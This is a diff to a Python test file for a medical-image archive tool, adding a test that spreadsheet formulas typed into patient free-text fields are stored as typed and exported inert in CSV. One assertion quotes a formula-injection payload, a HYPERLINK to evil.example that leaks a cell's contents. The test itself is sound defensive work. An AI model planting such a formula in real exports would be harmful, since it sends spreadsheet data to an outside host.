@@ -9,17 +9,24 @@ folder in the image store.
 
 from __future__ import annotations
 
+import csv
+import io
+
+import pandas as pd
 import pytest
 from sqlalchemy import func, select
 
 from core.archive import BundleError, ZipBundle
 from core.cli import main as cli_main
+from core.csv_safety import FORMULA_STARTS
+from core.export import import_metadata, labeled_csv, labeled_frame
 from core.images import load_pixels
 from core.importer import import_bundle
 from core.store import ImageStore
 from db.engine import Database
+from db.migrate import upgrade
 from db.models import Base, Image, Patient
-from scripts.make_bad_corpus import CASES, write_corpus
+from scripts.make_bad_corpus import CASES, FORMULA_REASONS, write_corpus
 from tests.bundles import make_zip, png_bytes, row
 from tests.test_bad_images import REFUSED
 
@@ -87,6 +94,8 @@ IMPORTED = {
 }
 """Files read correctly: (source format, width, height); EXIF orientation 6 turns 64×48
 into 48×64, and a multi-frame DICOM gives its first frame."""
+EXPORTED_INERT = ("manifest_formula_injection.zip",)
+"""Valid bundles of hostile free text: imported as typed, and inert in every CSV export."""
 
 
 @pytest.fixture(scope="module")
@@ -125,7 +134,8 @@ def _store_entries(store: ImageStore) -> list[str]:
 
 
 def test_every_corpus_file_has_an_expectation() -> None:
-    assert {name for name, _ in CASES} == set(REFUSED) | set(REFUSED_BUNDLES) | set(IMPORTED)
+    expected = set(REFUSED) | set(REFUSED_BUNDLES) | set(IMPORTED) | set(EXPORTED_INERT)
+    assert {name for name, _ in CASES} == expected
 
 
 @pytest.mark.parametrize("name", sorted(set(REFUSED) | set(REFUSED_BUNDLES)))
@@ -179,3 +189,42 @@ def test_cli_gives_the_same_sentence_and_exit_1(
     assert not [word for word in LIBRARY_WORDS if word in err], err
     assert set(_row_counts(db).values()) == {0}
     assert _store_entries(store) == []
+
+
+@pytest.mark.parametrize("name", EXPORTED_INERT)
+def test_formula_text_is_imported_as_typed_and_exported_inert(
+    corpus: dict[str, bytes], db: Database, store: ImageStore, name: str, tmp_path
+) -> None:
+    """Issue 13: a spreadsheet opening labeled.csv must run none of the free text."""
+    committed, messages = _import(corpus[name], db, store)
+    assert committed, messages
+    typed = {r.strip() for r in FORMULA_REASONS}
+    frame = labeled_frame(db, image_features=False)
+    assert set(frame["exclusion_reason"].dropna()) - {""} == typed
+    text = labeled_csv(frame).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    cells = [cell for r in rows for cell in r.values()]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
+    reasons = {r["exclusion_reason"] for r in rows if r["exclusion_reason"]}
+    assert '\'=HYPERLINK("http://evil.example/leak?x="&A2,"click")' in reasons
+    assert "''=already quoted" in reasons and "-1.5" in reasons
+    assert {r["height_cm"] for r in rows} == {"158.0"}
+
+    fresh_url = f"sqlite:///{tmp_path / 'fresh.db'}"
+    upgrade(fresh_url)
+    fresh = Database(fresh_url)
+    try:
+        assert import_metadata(fresh, text) == len(rows)
+        back = labeled_frame(fresh, image_features=False)
+    finally:
+        fresh.dispose()
+    columns = ["patient_code", "exclusion_reason", "height_cm", "l3_sma_cm2", "smi"]
+    pd.testing.assert_frame_equal(back[columns], frame[columns])
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
